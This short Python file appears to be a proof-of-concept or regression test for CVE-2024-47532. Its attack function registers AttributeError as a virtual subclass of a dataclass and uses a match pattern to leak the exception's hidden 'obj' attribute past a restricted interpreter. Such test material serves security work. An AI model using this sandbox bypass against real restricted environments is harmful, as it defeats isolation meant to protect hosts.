# A field of a dataclass is named `obj`, and positional patterns read it of whatever is registered as one.
# after: interpreter
# source: CVE-2024-47532 (GHSA-5rfv-66g4-jr8h)
import json
from abc import ABC
from dataclasses import dataclass
@dataclass
class U(ABC):
    obj: object = None
def attack(**_):
    U.register(AttributeError)
    try:
        json.nothing
    except AttributeError as e:
        match e:
            case U(found):
                return {"proof": str(found)}
